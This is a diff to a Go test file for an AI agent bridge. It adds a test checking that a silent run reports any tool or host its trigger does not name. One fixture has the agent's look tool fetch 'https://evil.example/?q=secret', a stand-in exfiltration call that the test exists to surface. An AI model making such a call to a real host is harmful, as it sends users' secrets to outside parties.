@@ -17,6 +17,7 @@ import (
 	"oneclaw/bridge/chats"
 	"oneclaw/bridge/interact"
 	"oneclaw/bridge/queue"
+	"oneclaw/bridge/receipts"
 	"oneclaw/storage"
 	"oneclaw/toolgroups"
 )
@@ -106,7 +107,8 @@ func noteHarness(t *testing.T, change ...func(*bridge.Config)) (*harness, *noteb
 		{Name: "note", Description: "Note.", Parameters: object, Repeatable: true, Run: toolgroups.TypedHandler(n.note), Undo: n.undo},
 		{Name: "erase", Description: "Erase.", Parameters: object, Effect: toolgroups.Consequential, Run: silent},
 		{Name: "look", Description: "Look.", Parameters: object, Effect: toolgroups.ReadOnly, Run: silent},
-	}, Groups: []toolgroups.Group{{Name: "config", Role: toolgroups.RoleAdmin}}})
+		{Name: "clock", Description: "Tell the time.", Parameters: object, Effect: toolgroups.ReadOnly, Origin: toolgroups.OriginOwn, Run: silent},
+	}, Groups: []toolgroups.Group{{Name: "finding", Tools: []toolgroups.Tool{{Name: "find", Description: "Find.", Parameters: object, Run: silent}}}, {Name: "config", Role: toolgroups.RoleAdmin}}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -272,4 +274,46 @@ func TestACrashAtAnyStepOfAnAnnouncement(t *testing.T) {
 			}
 		})
 	})
+}
+
+// A silent run stays silent if it used only what its line names; anything else makes it say what it used. A
+// webhook's run is always shown.
+func TestASilentRunUsesOnlyWhatItsLineNames(t *testing.T) {
+	t.Parallel()
+	const look, away, clock = "call look {\"text\":\"https://a.example/x\"}\n", "call look {\"text\":\"https://evil.example/?q=secret\"}\n", "call clock {}\n"
+	for name, c := range map[string]struct {
+		text    string
+		trigger receipts.Trigger
+		want    string // empty for silence
+	}{
+		"nothing used":                  {"", receipts.Trigger{Quiet: true}, ""},
+		"the clock":                     {clock, receipts.Trigger{Quiet: true}, ""},
+		"its address":                   {look + clock, receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, ""},
+		"a tool that is named":          {"call note {\"text\":\"one\"}\n", receipts.Trigger{Quiet: true, Uses: []string{"note"}}, ""},
+		"a group that is named":         {"call find {}\n", receipts.Trigger{Quiet: true, Uses: []string{"finding"}}, ""},
+		"another host":                  {look + away, receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "using look (`evil.example`)."},
+		"a tool that is not named":      {"call note {\"text\":\"one\"}\n", receipts.Trigger{Quiet: true}, "using note"},
+		"words of others without names": {"call look {}\n", receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "using look"},
+		"a webhook":                     {"", receipts.Trigger{Hook: "ci"}, "I have looked at this delivery"},
+		"a webhook that may be quiet":   {"", receipts.Trigger{Hook: "ci", Quiet: true}, "I have looked at this delivery"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			synctest.Test(t, func(t *testing.T) {
+				told := newResults()
+				r, _ := noteHarness(t, func(c *bridge.Config) { c.Hooks.OnTaskDone = told.done })
+				s := task("a.1", "Watch", c.text+"say NO_REPLY")
+				s.Trigger = c.trigger
+				r.submit(s)
+				result := told.next(t)
+				if result.Silent != (c.want == "") {
+					t.Errorf("silent is %v", result.Silent)
+				}
+				r.stop()
+				shown := slices.DeleteFunc(r.platform.texts(), func(s string) bool { return strings.HasPrefix(s, "I noted") })
+				if len(shown) != min(1, len(c.want)) || len(shown) == 1 && !strings.Contains(shown[0], c.want) {
+					t.Errorf("shown are %q, want %q", shown, c.want)
+				}
+			})
+		})
+	}
 }
